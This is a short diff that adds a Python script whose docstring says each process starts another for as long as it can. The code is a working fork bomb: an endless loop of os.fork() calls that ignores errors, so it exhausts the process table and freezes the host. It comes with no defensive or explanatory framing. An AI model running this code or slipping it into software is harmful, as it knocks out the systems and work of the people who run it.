@@ -1,0 +1,9 @@
+"""Every process starts another for as long as it can."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
